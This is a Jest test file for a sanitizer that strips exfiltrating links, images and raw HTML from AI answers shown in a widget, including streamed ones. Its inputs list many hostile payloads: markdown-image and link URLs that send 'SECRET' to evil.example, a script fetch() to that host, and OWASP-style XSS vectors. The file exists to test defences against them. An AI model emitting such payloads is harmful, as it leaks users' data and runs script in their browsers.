import { describe, expect, it } from '@jest/globals';
import { JSDOM } from 'jsdom';
import MarkdownIt from 'markdown-it';

import { OutputSanitizer, unfinishedConstructAt } from './output-sanitizer';

const sanitizer = new OutputSanitizer(['acme.example', 'widget.acme-cdn.example']);
const LEAK = /evil\.example\/|SECRET/;

describe('OutputSanitizer', () => {
  it.each([
    ['an inline image', 'Look ![chart](http://evil.example/?q=SECRET) here', 'Look chart here'],
    ['an image with a title', '![a](<http://evil.example/x?q=SECRET> "t")', 'a'],
    ['an inline link', 'See [this page](https://evil.example/p?d=SECRET).', 'See this page.'],
    ['a protocol-relative link', '[x](//evil.example/?q=SECRET)', 'x'],
    ['a javascript: link', '[x](javascript:alert(document.cookie))', 'x'],
    ['an entity-encoded host', '![x](http://evil&#46;example/?q=SECRET)', 'x'],
    ['a userinfo trick', '[x](https://acme.example@evil.example/?q=SECRET)', 'x'],
    ['a look-alike subdomain', '[x](https://acme.example.evil.example/?q=SECRET)', 'x'],
    [
      'an image inside a link',
      '[![x](http://evil.example/i?q=SECRET)](https://acme.example/)',
      '[x](https://acme.example/)',
    ],
    ['a raw <img>', 'a <img src="http://evil.example/p.png?q=SECRET" alt="pixel"> b', 'a pixel b'],
    [
      'a raw <img> with > in an attribute',
      '<img alt="a>b" src="http://evil.example/?q=SECRET">',
      'a>b',
    ],
    [
      'a tag CommonMark would not parse but a browser would',
      '<img src=http://evil.example/?q=SECRET>',
      '&lt;img src=evil.example>',
    ],
    [
      'a srcset',
      '<img srcset="https://acme.example/a.png 1x, http://evil.example/b.png?q=SECRET 2x">',
      '',
    ],
    ['a raw <a>', '<a href="http://evil.example/?q=SECRET">click</a>', 'click</a>'],
    ['an autolink', 'Go to <http://evil.example/?q=SECRET> now', 'Go to evil.example now'],
    ['a bare URL', 'Visit https://evil.example/?q=SECRET.', 'Visit evil.example.'],
    ['a bare www URL', 'Visit www.evil.example/?q=SECRET now', 'Visit evil.example now'],
    ['a bare scheme-relative URL', 'Visit //evil.example/?q=SECRET now', 'Visit evil.example now'],
  ])('neutralises %s', (_, input, expected) => {
    const output = sanitizer.sanitize(input);
    expect(output).toBe(expected);
    expect(output).not.toMatch(LEAK);
  });

  it('neutralises reference-style links and images through their definitions', () => {
    const output = sanitizer.sanitize(
      'Read [the guide][g] and ![logo][l] and [ok][k].\n\n[g]: http://evil.example/?q=SECRET\n[l]: <http://evil.example/l.png?q=SECRET> "Logo"\n[k]: https://acme.example/k\n',
    );
    expect(output).toBe(
      'Read the guide and logo and [ok][k].\n\n\n\n[k]: https://acme.example/k\n',
    );
  });

  it('keeps links and images to the tenant’s hosts and its subdomains, and plain text', () => {
    const text =
      'See [help](https://acme.example/help), ![logo](https://cdn.acme.example/l.png), ' +
      '<https://widget.acme-cdn.example/faq>, https://acme.example/x and citations [1] [2].';
    expect(sanitizer.sanitize(text)).toBe(text);
  });

  it('escapes a tag-like `<` that is not a whole tag, so that it can never become one', () => {
    expect(sanitizer.sanitize('if a<b then <b>bold</b>')).toBe('if a&lt;b then <b>bold</b>');
  });

  it('allows nothing when the tenant has no hosts', () => {
    expect(new OutputSanitizer([]).sanitize('[a](https://acme.example/)')).toBe('a');
  });
});

/**
 * What a widget would show: the answer rendered by a Markdown renderer that passes raw HTML
 * through and links bare URLs (the most permissive kind), then parsed by a browser's parser.
 * Lists what in it could run code or reach a host outside the tenant's.
 */
const renderer = new MarkdownIt({ html: true, linkify: true });
const RENDERED_TAGS = new Set(
  'a img b strong i em u s del ins mark small sub sup code pre kbd samp var abbr q br hr p span div blockquote ul ol li dl dt dd h1 h2 h3 h4 h5 h6 details summary table thead tbody tr th td'.split(
    ' ',
  ),
);
function dangersWhenRendered(markdown: string): string[] {
  const { document } = new JSDOM(`<body>${renderer.render(markdown)}</body>`).window;
  const dangers: string[] = [];
  for (const element of document.body.querySelectorAll('*')) {
    if (!RENDERED_TAGS.has(element.localName)) {
      dangers.push(`<${element.localName}>`);
    }
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^srcset$|^formaction$|^action$|^background$|^poster$/i.test(name)) {
        dangers.push(`${element.localName}[${name}]`);
      } else if (['href', 'src'].includes(name) && !sanitizer.isAllowedUrl(value)) {
        dangers.push(`${element.localName}[${name}=${value}]`);
      }
    }
  }
  return dangers;
}

describe('OutputSanitizer on raw HTML (DOMPurify allow-list)', () => {
  it.each([
    ['a <style> @import', `<style>@import '//evil.example/x.css';</style>After`, 'After'],
    [
      'a url(//…) in a style attribute',
      '<div style="background:url(//evil.example/p?q=SECRET)">Hi</div>',
      '<div>Hi</div>',
    ],
    [
      'a meta refresh',
      '<meta http-equiv="refresh" content="0;url=//evil.example/?q=SECRET">Hi',
      'Hi',
    ],
    ['an <svg onload>', '<svg onload=alert(1)>', ''],
    ['an event handler on an allowed tag', '<b onmouseover="alert(1)">x</b>', '<b>x</b>'],
    ['a scheme-relative link', '<a href="//evil.example/?q=SECRET">x</a>', 'x</a>'],
    ['a scheme-relative image', '<img src="//evil.example/?q=SECRET" alt="chart">', 'chart'],
    ['a <script> with its content', 'a<script>fetch("//evil.example/?q=SECRET")</script>b', 'ab'],
    [
      'an allowed image with a handler',
      '<img src="https://acme.example/a.png" onerror="alert(1)" alt="a">',
      '<img src="https://acme.example/a.png" alt="a">',
    ],
    [
      'an allowed link with a style',
      '<a href="https://acme.example/help" style="position:fixed" title="Help">help</a>',
      '<a href="https://acme.example/help" title="Help">help</a>',
    ],
    ['an alt text that decodes to a tag', '<img src=x alt="&lt;img src=x&gt;">', '&lt;img src=x>'],
  ])('closes %s', (_, input, expected) => {
    const output = sanitizer.sanitize(input);
    expect(output).toBe(expected);
    expect(output).not.toMatch(LEAK);
    expect(dangersWhenRendered(output)).toEqual([]);
  });

  // Known vectors, after the OWASP XSS filter evasion cheat sheet and the HTML5 Security
  // Cheatsheet, each aimed at running script or reaching evil.example.
  const VECTORS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)">',
    '<IMG SRC="javascript:alert(1);">',
    '<IMG SRC=JaVaScRiPt:alert(1)>',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<img src="https://acme.example/a.png" onload="alert(1)">',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><image href="//evil.example/i.png"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<body background="//evil.example/b.png">',
    '<iframe src="//evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="//evil.example/x.swf"></object>',
    '<embed src="//evil.example/x.swf">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; URL=//evil.example/">',
    '<style>body{background:url("//evil.example/b.png")}</style>',
    '<style>@import "//evil.example/x.css";</style>',
    '<div style="background-image:url(//evil.example/b.png)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="behavior:url(//evil.example/x.htc)">x</p>',
    '<table background="//evil.example/t.png"><tr><td>x</td></tr></table>',
    '<input type="image" src="//evil.example/i.png">',
    '<form action="//evil.example/"><button>go</button></form>',
    '<button formaction="//evil.example/">go</button>',
    '<video poster="//evil.example/p.png"></video>',
    '<audio src="//evil.example/a.mp3" autoplay></audio>',
    '<picture><source srcset="//evil.example/s.png"><img alt="x"></picture>',
    '<img srcset="//evil.example/s.png 2x" alt="x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://acme.example@evil.example/">x</a>',
    '<a href="https://evil.example/" ping="//evil.example/p">x</a>',
    '<a href="https:&#x2F;&#x2F;evil.example/">x</a>',
    '<details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<isindex action=javascript:alert(1) type=image>',
    '<x onclick=alert(1)>x</x>',
    '<template><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml-stylesheet href="//evil.example/x.xsl"?>',
    '<a href="https://acme.example/" onclick="alert(1)">ok</a>',
    '<img src="https://acme.example/ok.png" style="background:url(//evil.example/x)">',
    '[x](//evil.example/?q=SECRET)',
    '[x](javascript:alert(1))',
    '![x](//evil.example/?q=SECRET)',
    '[d]: //evil.example/?q=SECRET\n[see][d]',
    '<//evil.example/?q=SECRET>',
    '<http://evil.example/?q=SECRET>',
  ];

  it.each(VECTORS)('leaves nothing that runs or reaches out of %s', (vector) => {
    const output = sanitizer.sanitize(`Before ${vector} after`);
    expect(dangersWhenRendered(output)).toEqual([]);
    expect(output).not.toMatch(/evil\.example\/|SECRET|javascript:|<script|<style|<svg|<meta/i);
  });

  it.each([1, 3, 7])('closes the same holes when streamed (deltas of %i)', (size) => {
    const answer = VECTORS.join(' text ');
    const streaming = sanitizer.streaming();
    let emitted = '';
    for (let at = 0; at < answer.length; at += size) {
      emitted += streaming.push(answer.slice(at, at + size));
    }
    emitted += streaming.end();
    expect(dangersWhenRendered(emitted)).toEqual([]);
    expect(emitted).not.toMatch(/evil\.example\/|SECRET|<script|<svg|<meta/i);
    expect(emitted).toContain('<a href="https://acme.example/">ok</a>');
  });
});

describe('StreamingSanitizer', () => {
  const answer =
    'Sure! Vouchers last 12 months [1]. ![x](http://evil.example/?q=SECRET) See [help](https://acme.example/help) ' +
    'or [this](http://evil.example/s?d=SECRET), <img src="http://evil.example/p?q=SECRET" alt="p"> ' +
    '<http://evil.example/a?q=SECRET> www.evil.example/w?q=SECRET https://acme.example/ok [r][d]\n[d]: http://evil.example/d?q=SECRET\nEnd.';

  it.each([1, 2, 3, 5, 8, 13])(
    'never emits a piece of an exfiltrating URL (deltas of %i)',
    (size) => {
      const streaming = sanitizer.streaming();
      const emitted: string[] = [];
      for (let at = 0; at < answer.length; at += size) {
        emitted.push(streaming.push(answer.slice(at, at + size)));
      }
      emitted.push(streaming.end());
      const whole = emitted.join('');

      for (const piece of emitted) {
        expect(piece).not.toMatch(LEAK);
      }
      expect(whole).not.toMatch(LEAK);
      expect(whole).toContain(
        'Vouchers last 12 months [1]. x See [help](https://acme.example/help) or this, p',
      );
      expect(whole).toContain('https://acme.example/ok');
      expect(whole.endsWith('End.')).toBe(true);
    },
  );

  it('emits plain text as it arrives', () => {
    const streaming = sanitizer.streaming();
    expect(streaming.push('Hello there, ')).toBe('Hello there, ');
    expect(streaming.push('see [1')).toBe('see ');
    expect(streaming.push('] now ')).toBe('[1] now ');
  });

  it('defuses a construct held too long instead of waiting forever', () => {
    const streaming = sanitizer.streaming();
    const emitted = [
      streaming.push(`[${'a'.repeat(3000)}`),
      streaming.push('](http://evil.example/?q=SECRET) and '),
      streaming.push(`https://evil.example/${'x'.repeat(3000)}`),
      streaming.push('SECRET more'),
      streaming.end(),
    ].join('');
    expect(emitted.startsWith('\\[aaa')).toBe(true);
    expect(emitted).not.toMatch(LEAK);
    expect(emitted.endsWith(' more')).toBe(true);
  });
});

describe('unfinishedConstructAt', () => {
  it.each([
    ['plain text', 'hello world', 11],
    ['an open bracket', 'see [1', 4],
    ['a closed bracket at the end', 'see [1]', 4],
    ['a decided shortcut', 'see [1] ok', 10],
    ['an unfinished destination', 'a [b](http://x', 2],
    ['an image', 'a ![b](', 2],
    ['a tag', 'a <img src="x', 2],
    ['a URL prefix', 'go ht', 3],
    ['an unterminated URL', 'go https://a.b/c', 3],
    ['a definition line', '[d]: http://x', 0],
  ])('holds %s', (_, text, expected) => {
    expect(unfinishedConstructAt(text)).toBe(expected);
  });
});
